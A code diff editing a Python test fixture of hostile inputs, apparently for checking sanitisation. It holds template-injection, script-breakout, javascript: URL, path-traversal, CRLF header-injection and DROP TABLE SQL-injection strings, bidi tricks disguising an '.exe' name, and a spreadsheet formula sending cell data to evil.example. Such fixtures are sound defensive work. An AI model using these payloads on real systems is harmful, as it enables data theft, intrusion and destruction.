@@ -19,7 +19,9 @@ HOSTILE = {
     "template": "&lt;script&gt;&quot;&#x3c;img&#62;&amp;amp; {{ 7|add:7 }}{% debug %}{# #}${7*7}#{7*7}"
     '"}],"@type":"Evil","x":[{"\\u003c/script\\u003e',
     "formula": '=HYPERLINK("http://evil.example?"&A1,"Error")',
-    "direction": "report\u202etxt.exe\u2067\u2067\u202eunclosed Coal\u200bition\u200d\u2060\ufeff",
+    "direction": "report\u202etxt.exe unclosed Coal\u200bition\u200d\u2060\ufeff",
+    # An isolate that is left open turns what comes after it in its block, even in an isolate of the page.
+    "isolate": "\u2067\u2067\u202eunclosed",
     "address": "javascript:document.documentElement.dataset.ran=1//../../etc/passwd%00%0d%0aSet-Cookie:evil=1"
     "' OR 1=1; DROP TABLE articles_claim; -- " + "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 4,
 }
